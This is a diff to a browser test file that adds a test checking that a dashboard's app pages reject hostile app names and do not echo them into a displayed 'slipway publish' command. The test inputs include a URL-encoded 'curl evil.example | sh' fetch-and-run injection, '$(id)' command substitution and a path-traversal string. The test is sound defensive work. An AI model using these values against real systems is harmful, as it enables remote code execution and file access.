@@ -157,6 +157,16 @@ describe('a page of others', () => {
     await page.close();
   });
 
+  test('puts no command of its own among those that the dashboard shows', async () => {
+    const page = await tab.context.newPage();
+    for (const name of ['x;curl%20evil.example%7Csh', '$(id)', '..%2F..%2Fdocs', 'A%0Aid']) {
+      await page.goto(`${service.baseUrl}/apps/${name}/new`);
+      await page.getByRole('heading', { name: 'There is no such page' }).waitFor();
+      assert.equal(await page.getByText('slipway publish').count(), 0, name);
+    }
+    await page.close();
+  });
+
   test('leaves the one who is signed in where they were', async () => {
     await tab.page.reload();
     await tab.page.getByRole('heading', { name: 'Make your first app' }).waitFor();
